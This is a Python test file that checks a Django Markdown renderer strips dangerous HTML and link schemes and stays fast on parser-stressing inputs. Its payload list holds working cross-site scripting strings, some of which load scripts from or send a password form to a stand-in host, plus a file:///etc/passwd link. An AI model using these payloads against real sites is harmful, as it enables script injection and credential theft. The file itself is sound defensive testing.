"""Members' Markdown: what it may say, and what it must never do."""

import re
import sys
from collections.abc import Callable
from html.parser import HTMLParser
from types import FrameType
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.utils.safestring import SafeString

from core import markdown

ALLOWED: dict[str, set[str]] = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "td": {"class"},
    "th": {"class"},
}
PLAIN = (markdown._TAGS | markdown._HEADINGS | markdown._TABLES | {"strong"}) - set(ALLOWED)
ALLOWED |= {name: set() for name in PLAIN}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<style>body{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<div hx-get=/x hx-trigger=load>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](vbscript:msgbox)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![a](/static/a.png "\\" onerror=alert(1)")',
    '[a](/x "\\" onclick=alert(1)")',
    '[a](/x" onclick="alert(1))',
    "[a]: javascript:alert(1)\n\n[a]",
    "```<script>\nalert(1)\n```",
    '```"onload="alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "# <script>alert(1)</script>",
    "a|b\n-|-\n<script>|<img src=x onerror=alert(1)>",
    "> <iframe srcdoc='<script>alert(1)</script>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<x onclick=alert(1)>",
    "<div><div><p><b><i><u><svg><g onload=alert(1)></g></svg></u></i></b></p></div></div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><tr><td><form><input formaction=javascript:alert(1) type=submit></form></td></tr></table>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](data:image/png;base64,iVBORw0KGgo=)",
    "[a](<data:text/html,x>)",
    "[a](//evil.example/%0ajavascript:alert(1))",
    "- <video><source onerror=alert(1)>\n  - <audio src=x onerror=alert(1)>",
]


class Tags(HTMLParser):
    """Every tag with its attributes, as a browser's reader would meet them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_comes_out(payload: str) -> None:
    for tag, attributes in Tags(markdown.render(payload)).seen:
        assert set(attributes) <= ALLOWED[tag]
        assert not re.match(
            r"\s*(?!https?:|mailto:)[a-z]+:", attributes.get("href") or "", re.IGNORECASE
        )


def test_the_payload_reader_would_notice() -> None:
    """The control: the raw payload does break the rule that the test above holds."""
    seen = Tags("<img src=x onerror=alert(1)>").seen
    assert seen == [("img", {"src": "x", "onerror": "alert(1)"})]
    assert not set(seen[0][1]) <= ALLOWED["img"]


def test_commonmark_and_tables() -> None:
    html = markdown.render(
        "# One\n\nTwo *three* **four** `5`\n\n1. a\n2. b\n\n|a|b|\n|:-:|--:|\n|c|d|"
    )
    assert isinstance(html, SafeString)
    assert "<h2>One</h2>" in html
    assert "<em>three</em> <strong>four</strong> <code>5</code>" in html
    assert '<th class="align-center">a</th>' in html
    assert '<td class="align-end">d</td>' in html
    assert "style" not in html


def test_a_column_without_alignment_has_no_class() -> None:
    assert "<td>c</td>" in markdown.render("|a|\n|-|\n|c|")
    assert "<td>c</td>" in markdown.render("|a|\n|:-|\n|c|")


@pytest.mark.parametrize(
    ("level", "shift", "tag"), [(1, 0, "h1"), (1, 2, "h3"), (3, 1, "h4"), (6, 2, "h6")]
)
def test_headings_fit_below_the_pages_own(level: int, shift: int, tag: str) -> None:
    html = markdown.render("#" * level + " A", shift=shift)
    assert html.strip() == ("A" if tag == "h1" else f"<{tag}>A</{tag}>")


def test_links_pass_on_no_credit() -> None:
    assert 'rel="nofollow noopener"' in markdown.render("[a](https://example.org)")
    assert 'href="mailto:a@example.org"' in markdown.render("<a@example.org>")


@pytest.mark.parametrize("source", ["/static/a.png", "a.png", "pictures/a.png"])
def test_own_pictures_show(source: str) -> None:
    assert f'<img src="{source}" alt="A map">' in markdown.render(f"![A map]({source})")


@pytest.mark.parametrize(
    "source",
    ["https://e.example/p.gif", "//e.example/p.gif", "HTTP://e.example", "/logout", "mailto:a@b.c"],
)
def test_other_pictures_become_their_description(source: str) -> None:
    assert markdown.render(f"![A *map*]({source})").strip() == "<p>A map</p>"


def test_raw_html_is_shown_as_text() -> None:
    assert markdown.render("<b>bold</b>").strip() == "<p>&lt;b&gt;bold&lt;/b&gt;</p>"


def test_plain_keeps_words_only() -> None:
    text = (
        "# Head\n\nA [link](https://x.example) and\n*more*\\\n`code` ![map](/m.png)\n\n"
        "```\nfence\n```\n\n- item\n\n---\n"
    )
    assert markdown.plain(text) == "Head A link and more code map fence item"


@pytest.mark.parametrize(
    ("limit", "expected"),
    [
        (None, "alpha beta gamma"),
        (16, "alpha beta gamma"),
        (15, "alpha beta…"),
        (11, "alpha beta…"),
        (10, "alpha…"),
        (3, "al…"),
    ],
)
def test_plain_cuts_at_a_word(limit: int | None, expected: str) -> None:
    assert markdown.plain("alpha beta *gamma*", limit) == expected


def test_a_text_past_the_limit_is_refused() -> None:
    markdown.render("a" * markdown.LIMIT)
    with pytest.raises(ValueError, match="may have 100000 characters"):
        markdown.render("a" * (markdown.LIMIT + 1))


def test_a_text_of_a_field_has_an_end() -> None:
    markdown.validate_length("[" * markdown.LONGEST)
    with pytest.raises(ValidationError, match="may have 20,000 characters; this one has 1,000,000"):
        markdown.validate_length("[" * 1_000_000)


def test_brackets_past_all_use_open_no_link() -> None:
    link = "[a](https://example.org)"
    assert "<a " in markdown.render(link)
    assert "<a " not in markdown.render(link + "[" * 1000)


def test_lines_and_strokes_past_all_use_stay_as_typed() -> None:
    table = "|a|\n|-|\n|c|\n"
    assert "<table>" in markdown.render(table)
    assert "<table>" not in markdown.render(table + "|" * 2000)
    assert "<li>" in markdown.render("- - a\n")
    assert "<li>" not in markdown.render("- - a\n" + "- " * 2500)
    assert markdown.render("a\n\nb\r\n" + "\n" * 1000) == "<p>a</p>\n<p>b</p>\n"
    assert markdown.render("# <b>\n" * 1001) == "<p>" + "\n".join(["# &lt;b&gt;"] * 1001) + "</p>\n"


def steps(work: Callable[[], Any]) -> int:
    """Count the Python calls that the work makes: a clock that a busy machine cannot bend."""
    count = 0

    def tick(_frame: FrameType, event: str, _argument: object) -> None:
        nonlocal count
        count += event == "call"

    before = sys.getprofile()
    sys.setprofile(tick)
    try:
        work()
    finally:
        sys.setprofile(before)
    return count


BOMBS = [
    "[",
    "![",
    "[](",
    "[a](",
    "]",
    "*a_",
    "**a *",
    "`",
    "` `` ",
    "<",
    "<!--",
    "|",
    ">",
    "> ",
    "- ",
    "&",
    "\\",
    "<a@b.",
    "a\n",
    "[a\n",
    "* a\n ",
    "- - - - a\n",
    "- - - - - - - - a\n",
    "> > > > > > > > a\n\n",
    "|*a*|*a*|*a*|\n|-|-|-|\n",
    "[a]: /u\n",
]


@pytest.mark.parametrize("unit", BOMBS)
def test_a_bomb_costs_in_proportion_to_its_size(unit: str) -> None:
    def work(size: int) -> Callable[[], str]:
        return lambda: markdown.render(unit * (size // len(unit)))

    small, large = steps(work(2_000)), steps(work(8_000))
    assert large < 5 * small + 200
    assert large < 200 * 8_000
